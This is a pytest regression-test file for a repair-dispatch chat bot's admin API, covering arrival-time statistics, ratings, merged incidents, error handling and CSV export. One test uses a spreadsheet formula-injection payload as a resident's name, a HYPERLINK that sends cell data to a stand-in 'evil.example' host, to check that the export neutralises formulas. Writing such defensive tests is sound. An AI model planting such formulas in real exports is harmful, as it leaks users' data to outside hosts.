"""Found in review of the admin API, figures, page and 统计/日报: each test failed before its fix."""

from datetime import UTC, datetime, timedelta

import pytest
from aiohttp.test_utils import TestClient, TestServer

from bot.api import Api
from bot.stats import STATION, figures, percentile
from tests.conftest import ADMIN, GROUP, LI, WANG

TOKEN = "s3cret-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
T0 = datetime(2026, 11, 26, 2, 0, tzinfo=UTC)  # 10:00 local (the conftest clock)


@pytest.fixture
async def client(bot):
    async with TestClient(TestServer(Api(bot.app, TOKEN).web_app())) as c:
        yield c


async def at(bot, minutes: int) -> None:
    bot.clock.advance(T0 + timedelta(minutes=minutes) - bot.clock.now())
    await bot.app.tick()


def rows(bot):
    found = figures(
        bot.store.sql,
        bot.app.config,
        T0 - timedelta(hours=10),
        T0 + timedelta(days=1),
        [bot.store.station],
    )
    return {(f.by, f.key): f for f in found}


async def one_repair(bot, accept=5, arrive=20, done=30):
    await bot.say("下班", sender=WANG)  # LI gets it
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)  # 10:00, promise 10:45
    await at(bot, accept)
    await bot.say("接单 1", sender=LI)
    await at(bot, arrive)
    await bot.say("到达 1", sender=LI)
    if done is not None:
        await at(bot, done)
        await bot.say("完成 1 换了保险", sender=LI)


# 1 -------------------------------------------------------------------------------------
async def test_1_an_arrival_well_inside_the_promise_counts_as_on_time(bot):
    await one_repair(bot, arrive=20)  # 20 minutes against a 45-minute promise
    station = rows(bot)[("station", STATION)]
    # due_at is stored as '2026-11-26 02:45:00+00:00' (space), events as '...T02:20...';
    # stats compares the strings, and 'T' > ' ', so every such arrival is "late"
    assert station.arrived_in_time == 1.0


# 2 -------------------------------------------------------------------------------------
async def test_2_a_late_arrival_is_late_even_after_the_promise_was_moved(bot):
    await one_repair(bot, arrive=60, done=70)  # 11:00 against the 10:45 promise
    # the 'missed' clock at 10:50 moved due_at to 11:20; stats compares against that
    station = rows(bot)[("station", STATION)]
    assert station.arrived_in_time == 0.0


# 3 -------------------------------------------------------------------------------------
async def test_3_every_reporters_rating_counts(bot):
    await bot.say("下班", sender=WANG)
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)
    await at(bot, 2)
    await bot.say("3栋2单元601也停电了", sender="r2", group=GROUP)  # joins #1
    await at(bot, 5)
    await bot.say("接单 1", sender=LI)
    await at(bot, 30)
    await bot.say("到达 1", sender=LI)
    await at(bot, 40)
    await bot.say("完成 1 换了保险", sender=LI)
    for who, stars in (("r1", "5"), ("r2", "1")):
        await bot.say("1", sender=who, group=GROUP)
        await bot.say(stars, sender=who, group=GROUP)
    assert bot.store.ticket(2).rating == 1  # the bot asked r2 and kept the answer
    station = rows(bot)[("station", STATION)]
    assert (station.ratings, station.rating) == (2, 3.0)  # today (1, 5.0)


# 4 -------------------------------------------------------------------------------------
async def test_4_split_of_a_closed_report_is_refused_not_a_500(bot, client):
    await bot.say("下班", sender=WANG)
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)
    await bot.say("3栋2单元601也停电了", sender="r2", group=GROUP)
    await bot.say("接单 1", sender=LI)
    await bot.say("到达 1", sender=LI)
    await bot.say("完成 1 好了", sender=LI)
    for who in ("r1", "r2"):
        await bot.say("1", sender=who, group=GROUP)
        await bot.say("5", sender=who, group=GROUP)
    assert bot.store.ticket(2).state == "closed" and bot.store.ticket(2).incident_id == 1
    r = await client.post("/api/tickets/2/split", headers=AUTH)
    assert r.status == 409  # chat's 拆分 2 says it is not joined; the API crashes (500)


# 5 -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "method,path,body",
    [
        ("GET", "/api/tickets/%C2%B2", None),  # '²'.isdigit() is True, int('²') raises
        ("GET", "/api/tickets/99999999999999999999", None),  # SQLite OverflowError
        ("POST", "/api/tickets/99999999999999999999/assign", {"worker": "王师傅"}),
        ("POST", "/api/tickets/99999999999999999999/split", None),
        ("POST", "/api/outages/99999999999999999999/cancel", None),
        ("POST", "/api/tickets/1/merge", {"other": 10**30}),
        ("GET", "/api/stats?from=9999-12-31T23:00:00-12:00", None),
        ("GET", "/api/stats?from=0001-01-01T00:00:00%2B14:00", None),
        (
            "POST",
            "/api/outages",
            {
                "communities": ["幸福花园"],
                "start": "9999-12-31T20:00:00+00:00",
                "end": "9999-12-31T22:00:00+00:00",
                "reason": "检修",
                "despite_warnings": True,
            },
        ),
    ],
)
async def test_5_odd_input_is_a_4xx_not_a_500(bot, client, method, path, body):
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)
    r = await client.request(method, path, json=body, headers=AUTH)
    assert 400 <= r.status < 500, (r.status, await r.text())


async def test_5b_from_after_to_is_a_400(client):
    r = await client.get("/api/stats?from=2026-11-27&to=2026-11-20", headers=AUTH)
    assert r.status == 400  # today 200 with no rows, as if nothing happened


# 6 -------------------------------------------------------------------------------------
async def test_6_csv_cells_from_residents_cannot_be_formulas(bot, client):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    await bot.say("3栋2单元501停电了", sender="r1", name=evil, group=GROUP)
    text = (await (await client.get("/api/tickets.csv", headers=AUTH)).text()).lstrip("\ufeff")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells), [c for c in cells if c[:1] == "="]


# 7 -------------------------------------------------------------------------------------
async def test_7_the_daily_summary_does_not_call_an_on_time_arrival_late(bot):
    await one_repair(bot, arrive=20, done=None)  # arrived at 10:20, due 10:45, still working
    await at(bot, 120)
    [reply] = await bot.say("日报", sender=ADMIN)
    assert "其中超时 0 张" in reply.text  # the page (late = ... and state != arrived) says 0


# 8 -------------------------------------------------------------------------------------
async def test_8_merged_incident_times_count_from_its_first_report(bot, client):
    await bot.say("下班", sender=WANG)
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)  # 10:00 #1
    await at(bot, 10)
    await bot.say("12栋1单元101停电了", sender="r2", group=GROUP)  # 10:10 #2
    r = await client.post("/api/tickets/2/merge", json={"other": 1}, headers=AUTH)
    assert r.status == 200
    await at(bot, 50)
    await bot.say("到达 2", sender=LI)
    station = rows(bot)[("station", STATION)]
    assert (station.reports, station.incidents) == (2, 1)
    assert station.arrive_median == 50.0  # the incident was first reported at 10:00; today 40


# 10 ------------------------------------------------------------------------------------
def test_10_the_median_of_two_is_their_mean():
    assert percentile([20.0, 40.0], 0.5) == 30.0  # today 20.0, shown as 到场中位 20 分钟


# 11 ------------------------------------------------------------------------------------
async def test_11_openapi_says_what_the_routes_do(client):
    spec = await (await client.get("/api/openapi.json", headers=AUTH)).json()
    assert "security" not in spec["paths"]["/"]["get"]  # open: it is the sign-in page
    assert "security" not in spec["paths"]["/login"]["post"]
    assert "requestBody" in spec["paths"]["/login"]["post"]  # a form with `token`
    assert "201" in spec["paths"]["/api/outages"]["post"]["responses"]
    assert "409" in spec["paths"]["/api/outages"]["post"]["responses"]
    names = {p["name"] for p in spec["paths"]["/api/tickets"]["get"].get("parameters", [])}
    assert {"state", "from", "to"} <= names


# 9 -------------------------------------------------------------------------------------
async def test_9_a_residents_private_complaint_counts_for_their_community(bot):
    await bot.say("3栋2单元501停电了", sender="r1", group=GROUP)
    await bot.say("投诉 师傅来得太慢了", sender="r1")  # privately
    assert rows(bot)[("community", "幸福花园")].complaints == 1  # today: no community row
